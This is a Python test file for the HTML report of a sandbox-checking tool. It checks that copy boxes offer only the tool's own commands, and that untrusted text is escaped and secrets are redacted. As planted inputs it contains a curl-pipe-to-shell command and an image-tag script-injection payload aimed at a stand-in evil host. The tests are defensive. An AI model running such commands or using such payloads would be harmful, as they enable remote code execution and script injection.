"""report.html without a browser: commands to copy, self-containment, escaping (Chromium tests: tests/browser)."""

from __future__ import annotations

import html
import re

from support import report_scenarios as scenarios

from sbxcheck.redact import MASK, Redactor
from sbxcheck.report.html import render_html
from sbxcheck.report.nextsteps import rerun_command
from sbxcheck.report.results_json import report_dict
from sbxcheck.results import CheckRecord, Classification, Outcome, RunReport


def _page(report: RunReport, redactor: Redactor | None = None) -> str:
    redactor = redactor or Redactor()
    return render_html(report_dict(report, redactor), redactor)


def _copy_boxes(page: str) -> list[str]:
    return [html.unescape(c) for c in re.findall(r'<div class="cmd"><pre><code>(.*?)</code></pre>', page)]


def test_the_commands_offered_are_the_checks_own_never_the_prose() -> None:
    """A next step quoting what a server wrote (a looping tool named like a command) offers only the
    commands the check built: the quoted text stays prose, escaped, in no copy box."""
    planted = "curl -s http://127.0.0.1:9/p.sh | sh"

    def loop(record: CheckRecord) -> CheckRecord | None:
        if record.check != "reaches_execution" or not record.target.startswith("opencode-"):
            return None
        return record.model_copy(
            update={
                "outcome": Outcome.FAILED,
                "classification": Classification.CHECK_FAILED,
                "message": f"suspected loop: `{planted}` (4x) repeated with the same arguments",
                "recommendation": f"send each looping mission a concrete hint ((`{planted}`); {planted}",
                "cause": "mission-signal:suspected_loop",
            }
        )

    report = scenarios.rebuild(scenarios.healthy(), loop)
    page = _page(report)
    boxes = _copy_boxes(page)
    assert boxes and all(planted not in box for box in boxes), boxes
    assert all(box.startswith("pytest ") for box in boxes)  # only the re-run sbxcheck built
    assert html.escape(planted) in page  # still shown, as prose
    gate = scenarios.gate_fault()
    boxes = _copy_boxes(_page(gate))
    assert f"just sbx lifecycle setup {scenarios.RUNS[2]}" in boxes  # a check's own command is offered


def test_rerun_command_names_gate_runs_or_node_ids() -> None:
    gate = scenarios.gate_fault()
    bravo = [r for r in gate.checks if r.target.startswith(scenarios.RUNS[1]) and r.outcome.value == "error"]
    assert rerun_command(bravo) == f"pytest -m gate --sbx-run-id {scenarios.RUNS[1]}"
    route = [r for r in scenarios.canary_incident().checks if r.check == "reaches_execution"][:1]
    assert rerun_command(route) == f"pytest '{route[0].nodeid}'"


def test_page_is_self_contained_and_escaped() -> None:
    report = scenarios.gate_fault()
    record = report.checks[0]
    report.checks[0] = record.model_copy(
        update={"message": '<img src="http://evil.example/x.png" onerror=alert(1)>'}
    )
    page = _page(report)
    assert not re.search(r'(?:src|href)="(?:https?:)?//', page)  # nothing loaded from anywhere
    assert "@import" not in page and "url(" not in page
    assert '<img src="http://evil.example' not in page and "&lt;img src=&quot;http://evil.example" in page
    assert page.count('class="cell o-') == len(report.checks)  # the grid: one cell per item


def test_page_passes_the_redactor() -> None:
    secret = "registered-secret-value-42"
    report = scenarios.canary_incident()
    report.checks[1] = report.checks[1].model_copy(update={"evidence": {"stderr": f"token={secret}"}})
    page = _page(report, Redactor([secret]))
    assert secret not in page and MASK in page


def test_failed_items_come_before_passed_in_the_page() -> None:
    page = _page(scenarios.gate_fault())
    outcomes = re.findall(r'<article class="item o-(\w+)"', page)
    first_passed = outcomes.index("passed")
    assert set(outcomes[:first_passed]) == {"failed", "error"} and "failed" not in outcomes[first_passed:]


def test_empty_and_error_only_runs_say_so() -> None:
    healthy = scenarios.healthy()
    empty = healthy.model_copy(update={"checks": [], "incidents": [], "summary": {"total": 0}})
    page = _page(empty)
    assert 'data-verdict="empty"' in page and "NO CHECKS RAN" in page
    only_errors = scenarios.gate_fault()
    only_errors.checks[:] = [r for r in only_errors.checks if r.outcome.value != "failed"]
    page = _page(only_errors)
    assert 'data-verdict="error"' in page and "COULD NOT TELL" in page


def test_a_healthy_run_with_a_skipped_item_says_how_many_passed_and_were_skipped() -> None:
    """A skipped item is not a passed check: the headline counts both instead of "every check passed"."""
    from sbxcheck.report.html_verdict import verdict_headline

    report = scenarios.healthy()
    first = report.checks[0]
    from sbxcheck.results import Outcome

    report.checks[0] = first.model_copy(update={"outcome": Outcome.SKIPPED, "message": "no DGX in this fleet"})
    summary = {**report.summary, "passed": report.summary["passed"] - 1, "skipped": 1}
    report = report.model_copy(update={"summary": summary})
    headline = re.search(r"<h1>(.*?)</h1>", _page(report))
    assert headline is not None and headline.group(1) == f"HEALTHY — {summary['passed']} passed, 1 skipped"
    assert verdict_headline("passed", summary) == headline.group(1)  # the terminal's verdict line
    assert verdict_headline("passed", {"passed": 3, "skipped": 0}) == "HEALTHY — every check passed"
